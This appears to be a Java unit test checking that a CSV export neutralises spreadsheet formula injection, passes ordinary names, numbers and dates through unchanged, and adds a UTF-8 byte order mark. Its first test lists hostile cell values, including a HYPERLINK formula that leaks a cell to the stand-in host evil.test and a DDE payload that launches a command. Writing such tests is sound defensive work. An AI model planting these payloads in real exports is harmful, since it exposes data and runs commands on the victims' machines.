package org.hubcycle.shared.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.http.ResponseEntity;

class CsvDownloadTest {

    @Test
    void textThatASpreadsheetWouldRunAsAFormulaIsNeutralised() throws IOException {
        List<String> hostile = List.of(
                "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Click\")",
                "+1+1",
                "-2+3",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1");

        List<CSVRecord> records = parse(CsvDownload.of(
                "x.csv", List.of("Cell"), hostile.stream().map(List::of).toList()));

        assertThat(records)
                .extracting(r -> r.get(0))
                .containsExactlyElementsOf(hostile.stream().map(h -> "'" + h).toList());
    }

    @Test
    void ordinaryTextNumbersDatesAndBlanksAreWrittenAsTheyAre() throws IOException {
        List<CSVRecord> records = parse(CsvDownload.of(
                "x.csv",
                List.of("Name", "Charge", "Owed", "Date", "Blank"),
                List.of(Arrays.asList(
                        "Zoë O'Neill-Smith",
                        new BigDecimal("150.00"),
                        new BigDecimal("-12.50"),
                        LocalDate.of(2026, 11, 17),
                        null))));

        assertThat(records.get(0).values()).containsExactly("Zoë O'Neill-Smith", "150.00", "-12.50", "2026-11-17", "");
    }

    @Test
    void theFileStartsWithAByteOrderMarkSoExcelReadsUtf8() {
        ResponseEntity<String> download = CsvDownload.of("charges.csv", List.of("Name"), List.of());

        assertThat(download.getBody()).startsWith("\uFEFFName");
        assertThat(download.getHeaders().getContentDisposition().getFilename()).isEqualTo("charges.csv");
    }

    private static List<CSVRecord> parse(ResponseEntity<String> download) throws IOException {
        return CSVFormat.DEFAULT
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(download.getBody().substring(1)))
                .getRecords();
    }
}
